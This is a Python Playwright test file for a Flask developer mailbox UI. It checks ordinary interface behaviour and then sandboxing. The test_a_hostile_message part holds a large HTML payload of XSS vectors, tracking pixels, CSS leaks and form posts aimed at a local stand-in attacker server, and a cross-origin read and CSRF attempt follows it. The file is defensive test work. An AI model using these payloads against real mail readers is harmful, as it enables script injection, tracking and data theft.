"""The mailbox in a real browser."""

from __future__ import annotations

import http.server
import importlib.util
import socketserver
import sys
import threading
import typing as t
from pathlib import Path

import pytest
from flask import Flask

from mailbox_app import app_with_mailbox
from mailbox_app import keep
from screens import PATIENCE
from screens import SIZES
from servers.flask_server import served

if t.TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser
    from playwright.sync_api import BrowserContext
    from playwright.sync_api import Page

pytestmark = [pytest.mark.services, pytest.mark.usefixtures("untraced")]

DEMO = Path(__file__).parents[2] / "examples" / "demo"
DESKTOP, PHONE = SIZES["desktop"], SIZES["phone"]


@pytest.fixture
def demo() -> Iterator[str]:
    """The URL of the demo."""
    specification = importlib.util.spec_from_file_location("demo_in_browser", DEMO / "app.py")
    assert specification is not None
    assert specification.loader is not None
    module = importlib.util.module_from_spec(specification)
    sys.modules["demo_in_browser"] = module
    specification.loader.exec_module(module)
    app: Flask = module.create_app()
    with served(app) as address:
        module.welcome(app, f"{address}/")
        yield address
    app.extensions["postbox"].close()


@pytest.fixture
def context(chromium: Browser) -> Iterator[BrowserContext]:
    """A new browser without any storage."""
    found = chromium.new_context(
        viewport=t.cast("t.Any", DESKTOP), color_scheme="light", reduced_motion="reduce"
    )
    found.set_default_timeout(PATIENCE)
    yield found
    found.close()


@pytest.fixture
def page(context: BrowserContext) -> Iterator[Page]:
    """A tab that fails the test if a script of the page raises an error."""
    found = context.new_page()
    errors: list[str] = []
    found.on("pageerror", lambda error: errors.append(str(error)))
    yield found
    assert errors == []


def wait_for_rows(page: Page, number: int) -> None:
    """Wait until the list has that length."""
    from playwright.sync_api import expect

    expect(page.locator(".row")).to_have_count(number, timeout=PATIENCE)


def write(context: BrowserContext, demo: str, subject: str, **fields: str) -> None:
    """Send a message with the form of the demo, in another tab."""
    form = context.new_page()
    form.goto(demo)
    form.fill("[name=subject]", subject)
    for name, value in fields.items():
        form.fill(f"[name={name}]", value)
    form.set_input_files(
        "[name=attachment]",
        {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"some notes"},
    )
    form.click("button.primary")
    form.wait_for_selector("text=It has arrived.")
    form.close()


def test_mail_appears(demo: str, context: BrowserContext, page: Page) -> None:
    """A message sent with the form appears without a reload, as unread. The title and a status for
    screen readers announce it. Opening it marks it as read."""
    page.goto(f"{demo}/_mail/")
    page.wait_for_selector("text=Welcome to your mailbox")
    page.evaluate("window.loaded = 'once'")

    write(context, demo, "Your order", to="Ann <ann@example.com>")

    row = page.locator(".row", has_text="Your order")
    row.wait_for()
    assert page.title() == "(2) Mailbox"
    assert page.locator("#status").inner_text() == "New message: Your order"
    assert "unread" in (row.get_attribute("class") or "")
    row.click()
    page.wait_for_selector("h1:text('Your order')")
    page.wait_for_selector(".row[aria-current]:not(.unread)")
    assert page.evaluate("window.loaded") == "once"
    assert "/_mail/messages/" in page.url


def test_views_of_a_message(demo: str, context: BrowserContext, page: Page) -> None:
    """HTML, text, source, headers, parts and lint are shown, and a file is downloaded."""
    write(context, demo, "Your order", text="Two mugs\nand a spoon")
    page.goto(f"{demo}/_mail/")
    page.click(".row >> nth=0")

    frame = page.frame_locator(".stage iframe")
    assert frame.locator("p").first.inner_text() == "Two mugs"
    for tab, shown in [
        ("Text", "Two mugs\nand a spoon"),
        ("Source", "MIME-Version: 1.0"),
        ("Headers", "Flask-MailHandler <demo@example.com>"),
        ("Parts", "multipart/alternative"),
        ("Lint", ""),
    ]:
        page.get_by_role("tab", name=tab).click()
        (panel,) = page.get_by_role("tabpanel").all()
        assert shown in panel.inner_text()
    page.get_by_role("tab", name="Files").click()
    with page.expect_download() as download:
        page.click(".files a:has-text('notes.txt')")
    assert download.value.suggested_filename == "notes.txt"
    assert Path(download.value.path()).read_bytes() == b"some notes"
    with page.expect_download() as source:
        page.click(".actions a:has-text('.eml')")
    assert source.value.suggested_filename.endswith(".eml")


def test_widths_and_colours(demo: str, page: Page) -> None:
    """The chosen width is kept. The message and the page are light or dark independently."""
    page.goto(f"{demo}/_mail/")
    page.click(".row")
    frame = page.locator(".stage iframe")
    card = page.frame_locator(".stage iframe").locator(".card")

    def background(selector: str) -> t.Any:
        return page.eval_on_selector(selector, "e => getComputedStyle(e).backgroundColor")

    def width() -> float:
        box = frame.bounding_box()
        assert box is not None
        return box["width"]

    widths = {}
    for name in ("Phone", "Tablet", "Desktop", "Phone"):
        page.get_by_role("radio", name=name).check(force=True)
        widths[name] = width()
    assert (widths["Phone"], widths["Tablet"]) == (375, 768)
    assert widths["Desktop"] > 800
    page.reload()
    assert page.get_by_role("radio", name="Phone").is_checked()

    light = card.evaluate("e => getComputedStyle(e).backgroundColor")
    page.get_by_title("Dark message").click()
    dark = page.frame_locator(".stage iframe[data-scheme=dark]").locator(".card")
    dark.wait_for()
    assert light == "rgb(255, 255, 255)"
    assert dark.evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(31, 38, 39)"
    assert background(".bar") == "rgb(255, 255, 255)"
    page.get_by_role("button", name="Dark page").click()
    assert background(".bar") == "rgb(30, 36, 37)"
    page.reload()
    assert background(".bar") == "rgb(30, 36, 37)"
    assert page.get_by_role("button", name="Dark page").get_attribute("aria-pressed") == "true"


def test_searching_and_keys(demo: str, context: BrowserContext, page: Page) -> None:
    """The list is searched while the user types, and every action has a key."""
    for subject in ("Order one", "Order two"):
        write(context, demo, subject)
    page.goto(f"{demo}/_mail/")
    subjects = page.locator(".row .subject")

    page.keyboard.press("/")
    page.keyboard.type("subject:order")
    wait_for_rows(page, 2)
    page.wait_for_url(lambda url: "q=subject%3Aorder" in url)
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("k")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_selector("h1:text('Order one')")
    page.get_by_role("tab", name="HTML").focus()
    page.keyboard.press("ArrowRight")
    assert page.get_by_role("tab", name="Text").get_attribute("aria-selected") == "true"
    page.keyboard.press("u")
    page.wait_for_selector("text=Select a message")
    page.go_back()
    page.wait_for_selector("h1:text('Order one')")
    page.fill("[name=q]", "nothing like it")
    page.wait_for_selector("text=Nothing found")
    page.fill("[name=q]", "")
    wait_for_rows(page, 3)
    assert subjects.count() == 3


@pytest.mark.parametrize("path", ["", "queue/"])
def test_the_keys_are_shown(demo: str, page: Page, path: str) -> None:
    """``?`` shows the keys, except in a field. They do nothing until it is closed."""
    page.goto(f"{demo}/_mail/{path}")
    keys = page.get_by_role("dialog", name="Keys")

    page.locator("[name=q]").press("?")
    assert not keys.is_visible()
    page.locator("[name=q]").press("Escape")
    page.keyboard.press("?")
    keys.wait_for()
    assert keys.get_by_text("Next and previous message").is_visible()
    assert keys.get_by_text("Delete the message").count() == (path == "")
    page.keyboard.press("/")
    assert keys.is_visible()
    page.keyboard.press("Escape")
    keys.wait_for(state="hidden")


def test_tabs_out_of_sight(demo: str, chromium: Browser) -> None:
    """On a phone that is too narrow for all tabs, a shade at the edge says that there are more."""
    context = chromium.new_context(viewport={"width": 300, "height": 700})
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    page.goto(f"{demo}/_mail/")
    page.click(".row")
    page.wait_for_selector("h1:text('Welcome')")

    tabs = page.locator(".tabs")
    assert tabs.evaluate("tabs => tabs.scrollWidth > tabs.clientWidth")
    fixed = tabs.evaluate("tabs => getComputedStyle(tabs).backgroundAttachment")
    assert fixed == "local, local, scroll, scroll"
    page.get_by_role("tab", name="Lint").click()
    box, edge = page.get_by_role("tab", name="Lint").bounding_box(), tabs.bounding_box()
    assert box is not None
    assert edge is not None
    assert box["x"] + box["width"] <= edge["x"] + edge["width"]
    context.close()


def test_deleting(demo: str, context: BrowserContext, page: Page) -> None:
    """A message is deleted by button and by key, and the next one is shown. All messages are
    deleted only after a confirmation."""
    for subject in ("one", "two", "three"):
        write(context, demo, subject)
    page.goto(f"{demo}/_mail/")
    page.click(".row:has-text('three')")
    page.wait_for_selector("h1:text('three')")

    page.get_by_role("button", name="Delete", exact=True).click()
    page.wait_for_selector("h1:text('two')")
    page.keyboard.press("#")
    page.wait_for_selector("h1:text('one')")
    wait_for_rows(page, 2)
    page.get_by_role("button", name="Delete all messages").click()
    page.get_by_role("button", name="Keep them").click()
    assert page.locator(".row").count() == 2
    page.get_by_role("button", name="Delete all messages").click()
    page.get_by_role("button", name="Delete all", exact=True).click()
    page.wait_for_selector("text=No mail yet")


def test_without_script(demo: str, chromium: Browser) -> None:
    """Without scripts, links and forms are enough."""
    context = chromium.new_context(java_script_enabled=False)
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    page.goto(f"{demo}/_mail/")
    page.fill("[name=q]", "welcome")
    page.keyboard.press("Enter")
    page.wait_for_url(lambda url: "q=welcome" in url)
    page.click(".row")
    page.wait_for_selector("h1:text('Welcome to your mailbox')")
    page.click("[data-tab=headers]")
    page.wait_for_selector("#sheet-headers")
    page.go_back()
    page.click("[data-scheme=dark]")
    page.frame_locator("iframe").locator(".card").wait_for()
    page.click("#delete button")
    page.wait_for_selector("text=No mail yet")
    context.close()


def test_on_a_phone(demo: str, chromium: Browser) -> None:
    """On a phone either the list or the message is visible, nothing is wider than the screen, and
    the back link leads to the list."""
    context = chromium.new_context(viewport=t.cast("t.Any", PHONE))
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    page.goto(f"{demo}/_mail/")
    page.click(".row")
    page.wait_for_selector("h1:text('Welcome')")

    assert not page.locator(".list").is_visible()
    for tab in page.get_by_role("tab").all():
        tab.click()
        assert page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]
    page.get_by_role("link", name="Back to the list").click()
    page.wait_for_selector(".list", state="visible")
    assert not page.locator("main").is_visible()
    context.close()


def test_an_app_that_is_reloaded(tmp_path: Path, page: Page) -> None:
    """If the server does not respond when a message is marked as read, the page raises no error."""
    id = keep(tmp_path, b"Subject: Hi\r\n\r\n")
    page.route("**/read", lambda route: route.abort())

    with served(app_with_mailbox(tmp_path)) as address, page.expect_event("requestfailed"):
        page.goto(f"{address}/_mail/messages/{id}")
    page.wait_for_selector("h1:text('Hi')")


class Attacker(http.server.BaseHTTPRequestHandler):
    """Records the requests it gets."""

    asked: t.ClassVar[list[str]]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Print nothing."""


class Listening(http.server.ThreadingHTTPServer):
    """Records connections too, even without a request."""

    asked: list[str]

    def server_bind(self) -> None:
        """Skip the DNS lookup of this machine's name."""
        socketserver.TCPServer.server_bind(self)

    def process_request(self, request: t.Any, client_address: t.Any) -> None:
        self.asked.append("connected")
        super().process_request(request, client_address)


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """The URL of another server, and the list of requests to it."""
    asked: list[str] = []
    kind = type("Mine", (Attacker,), {"asked": asked})
    # No other client connects to this address, even if the port belonged to another server before.
    server = Listening(("127.0.0.2", 0), kind)
    server.asked = asked
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.2:{server.server_address[1]}", asked
    server.shutdown()
    thread.join()
    server.server_close()


HOSTILE = """<!doctype html><html manifest="EVIL/manifest"><head>
<meta http-equiv="refresh" content="0; url=EVIL/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<meta http-equiv="set-cookie" content="stolen=1">
<base href="EVIL/base/"><base target="_top">
<link rel="stylesheet" href="EVIL/style.css"><link rel="preload" as="image" href="EVIL/preload">
<link rel="dns-prefetch" href="EVIL"><LINK rel="preconnect" href="EVIL">
<link rel="prefetch" href="EVIL/prefetch">
<link rel="icon" href="EVIL/icon"><link rel="import" href="EVIL/import">
<style>@import url("EVIL/import.css");
 @font-face { font-family: x; src: url("EVIL/font") }
body { font-family: x; background: url("EVIL/background"); cursor: url("EVIL/cursor"), auto }
a::before { content: url("EVIL/content") }
input[value^="a"] { background: url("EVIL/typed") }</style>
<script>parent.pwned = top.pwned = 1; document.title = 'pwned'; fetch('EVIL/fetch')</script>
<script src="EVIL/script.js"></script><script type="module">import "EVIL/module.js"</script>
</head><body onload="top.pwned = 2" onfocus="top.pwned = 3" background="EVIL/body">
<img src="EVIL/pixel.gif"><img srcset="EVIL/srcset 2x" src=x onerror="top.pwned = 4">
<img src="/_mail/api/messages"><img src="//HOST/relative">
<picture><source srcset="EVIL/source"></picture>
<svg onload="top.pwned = 5"><script>top.pwned = 6</script><image href="EVIL/svg"/>
<use href="EVIL/use.svg#x"/><foreignObject><iframe src="EVIL/foreign"></iframe></foreignObject>
<animate attributeName="href" values="javascript:top.pwned = 7"/>
<a id="svg" href="javascript:top.pwned = 8"><text y="20">svg</text></a></svg>
<math><mtext><style><img src=x onerror="top.pwned = 9"></style></mtext></math>
<iframe src="EVIL/iframe"></iframe><iframe srcdoc="<script>top.pwned = 10</script>"></iframe>
<iframe src="javascript:top.pwned = 11"></iframe><iframe src="/_mail/"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><applet code="EVIL/applet"></applet>
<video src="EVIL/video" poster="EVIL/poster" autoplay onloadstart="top.pwned = 12"></video>
<audio src="EVIL/audio" autoplay></audio><track src="EVIL/track">
<form id="form" action="EVIL/form" method="post"><input name="q" value="a" autofocus
onfocus="top.pwned = 13"><button id="submit">submit</button>
<button id="formaction" formaction="javascript:top.pwned = 14">x</button></form>
<form action="/_mail/clear" method="post"><button id="clear">clear</button></form>
<details open ontoggle="top.pwned = 15"><summary>x</summary></details>
<marquee onstart="top.pwned = 16">x</marquee>
<div style="animation: x 1s" onanimationstart="top.pwned = 17">
<a id="script" href="javascript:top.pwned = 18">script</a>
<a id="script2" target="_self" href=" java\nscript:top.pwned = 19">script</a>
<a id="data" href="data:text/html,<script>opener.pwned = 20</script>">data</a>
<a id="top" target="_top" href="EVIL/top">top</a>
<a id="parent" target="_parent" href="EVIL/parent">p</a>
<a id="ping" ping="EVIL/ping" href="#here">ping</a>
<a id="save" download="x.html" href="data:text/html,x">save</a>
<div style="position: fixed; inset: 0; pointer-events: none; background: url(EVIL/overlay)"></div>
<template><script>top.pwned = 21</script></template></pre></iframe></section></body></html>"""
CLICKED = ["script", "script2", "svg", "data", "submit", "formaction", "clear", "save", "ping"]
OF_THE_FRAME = ["top", "parent"]
"""Opened directly, the message is the top document, and a click on a link navigates away from
it."""


def settle(page: Page) -> None:
    """Wait until a page and its frames are loaded, and for what they might do next. Not for an
    idle network: Chromium does not always say that a request has ended which the policy stopped."""
    page.wait_for_load_state("load")
    page.wait_for_timeout(500)


@pytest.mark.parametrize("alone", [False, True], ids=["in the page", "by itself"])
def test_a_hostile_message(
    tmp_path: Path,
    context: BrowserContext,
    page: Page,
    attacker: tuple[str, list[str]],
    alone: bool,
) -> None:
    """Attack: every way in which a message could run a script, send a request, or change the page:
    when it is shown, and when the reader clicks on it. Nothing happens."""
    evil, asked = attacker
    attack = "\"'></iframe><script>top.pwned=1</script><img src=x onerror=top.pwned=1>"
    word = "=?utf-8?q?" + "".join(f"={octet:02X}" for octet in attack.encode()) + "?="
    header = "".join(f"{name}: {word}\r\n" for name in ("Subject", "From", "To", "Cc", "X-Evil"))
    html = HOSTILE.replace("EVIL", evil).replace("HOST", evil.partition("//")[2])
    id = keep(tmp_path, f"{header}Content-Type: text/html; charset=utf-8\r\n\r\n{html}".encode())
    happened: list[str] = []
    page.on("dialog", lambda found: happened.append(found.message))
    page.on("download", lambda found: happened.append(found.url))
    requested: list[str] = []
    # Requests that the policy stops are reported as failed, and never leave the browser.
    context.on("requestfinished", lambda found: requested.append(found.url))

    with served(app_with_mailbox(tmp_path)) as address:
        place = f"{address}/_mail/messages/{id}"
        page.goto(f"{place}/html" if alone else place)
        settle(page)
        title, where = page.title(), page.url
        (frame,) = [f for f in page.frames if f.url.startswith(f"{place}/html")]
        assert frame.locator("#script").is_visible()
        assert asked == []  # no connections
        for link in CLICKED if alone else CLICKED + OF_THE_FRAME:
            frame.locator(f"#{link}").click(force=True, no_wait_after=True)
        settle(page)

        assert [what for what in asked if what != "connected"] == happened == []
        assert [url for url in requested if not url.startswith(f"{address}/_mail/")] == []
        assert page.evaluate("window.pwned") is None
        assert {other.url for other in context.pages if other is not page} <= {"about:blank", ":"}
        assert (page.title(), page.url) == (title, where)
        assert context.cookies() == []
        assert [*tmp_path.glob("*.eml")] == [tmp_path / f"{id}.eml"]
        if not alone:
            for tab in page.get_by_role("tab").all():
                tab.click()
            assert page.evaluate("window.pwned") is None
            assert page.locator("h1").inner_text() == attack
            assert page.locator("script").count() == 2
            assert frame.evaluate("window.origin") == "null"


def test_a_link_opens_a_tab(tmp_path: Path, context: BrowserContext, page: Page) -> None:
    """A click on a link opens a new tab, which has no access to the page."""
    with served(app_with_mailbox(tmp_path)) as address:
        html = f'<a href="{address}/elsewhere">Reset</a>'
        id = keep(tmp_path, f"Content-Type: text/html\r\n\r\n{html}".encode())
        page.goto(f"{address}/_mail/messages/{id}")
        with context.expect_page() as opened:
            page.frame_locator("iframe").locator("a").click()
        opened.value.wait_for_url(f"{address}/elsewhere")

        assert opened.value.evaluate("[window.opener, document.referrer]") == [None, ""]
        assert page.url == f"{address}/_mail/messages/{id}"


def test_remote_images(tmp_path: Path, page: Page, attacker: tuple[str, list[str]]) -> None:
    """Remote images are fetched only when the reader asks for them, for this message."""
    evil, asked = attacker
    id = keep(tmp_path, f'Content-Type: text/html\r\n\r\n<img src="{evil}/pixel">'.encode())

    with served(app_with_mailbox(tmp_path)) as address:
        page.goto(f"{address}/_mail/messages/{id}")
        settle(page)
        assert asked == []
        with page.expect_response(f"{evil}/pixel"):
            page.click("text=Load remote images")
        page.wait_for_selector("text=Block remote images")

    assert "/pixel" in asked


def test_another_site_cannot_read(tmp_path: Path, page: Page, context: BrowserContext) -> None:
    """Attack: a page that the developer visits fetches and frames the mailbox, although the app
    allows every origin."""
    id = keep(tmp_path, b"Subject: secret\r\n\r\n")
    app = app_with_mailbox(tmp_path)
    elsewhere = Flask("elsewhere")

    @app.after_request
    def allow_all(response: t.Any) -> t.Any:
        response.headers["Access-Control-Allow-Origin"] = "*"
        return response

    @elsewhere.get("/")
    def attack() -> str:
        return "<p>Look at this"

    with served(app) as address, served(elsewhere) as evil:
        page.goto(evil.replace("127.0.0.1", "localhost"))
        read = page.evaluate(
            "async address => (await fetch(address)).text()",
            f"{address}/_mail/api/messages",
        )
        page.evaluate(
            "address => fetch(address, {method: 'POST', mode: 'no-cors', body: 'token='})",
            f"{address}/_mail/clear",
        )
        page.set_content(f'<iframe src="{address}/_mail/messages/{id}"></iframe>')
        settle(page)

        assert "404 Not Found" in read
        assert "secret" not in "".join(frame.content() for frame in page.frames[1:])
        assert [*tmp_path.glob("*.eml")] == [tmp_path / f"{id}.eml"]
